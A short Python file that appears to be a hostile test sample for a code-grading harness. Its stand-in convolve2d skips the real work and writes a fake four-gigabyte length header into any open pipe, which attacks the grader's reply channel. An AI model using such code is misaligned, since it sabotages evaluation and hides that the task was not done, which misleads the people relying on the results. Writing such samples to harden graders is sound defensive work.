# mypy: ignore-errors
"""Announces a reply of four gigabytes.

Attacks: convolve2d
Earns: nothing
"""

import os
import stat


def convolve2d(image, kernel):
    for number in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode):
                os.write(number, b"\xff\xff\xff\xff" + bytes(1000))
        except OSError:
            continue
    return image
